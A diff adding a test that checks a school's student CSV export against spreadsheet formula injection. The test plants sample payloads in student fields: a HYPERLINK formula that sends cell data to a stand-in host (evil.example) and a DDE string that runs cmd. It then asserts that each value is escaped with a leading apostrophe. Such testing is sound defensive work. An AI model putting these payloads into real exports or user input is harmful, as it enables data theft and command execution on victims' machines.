@@ -168,3 +168,16 @@ def test_query_count_does_not_grow_with_the_page(w, page):  # type: ignore[no-un
     with CaptureQueriesContext(connection) as large:
         assert w.coord_a.get(url).json()["count"] >= 6
     assert len(small) == len(large)
+
+
+def test_the_export_does_not_run_what_students_typed(w):  # type: ignore[no-untyped-def]
+    w.bob.first_name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    w.bob.last_name = "+SUM(1,1)"
+    w.bob.save()
+    w.bob.enrolment_verifications.update(program="@SUM(1+1)*cmd|' /C calc'!A0")
+    res = w.coord_a.get(f"/api/v1/schools/{w.a.pk}/students/export/")
+    rows = list(csv.DictReader(io.StringIO(b"".join(res.streaming_content).decode())))
+    bob = next(r for r in rows if r["last_name"].endswith("SUM(1,1)"))
+    assert bob["first_name"].startswith("'=HYPERLINK")
+    assert bob["last_name"] == "'+SUM(1,1)"
+    assert bob["program"].startswith("'@SUM")
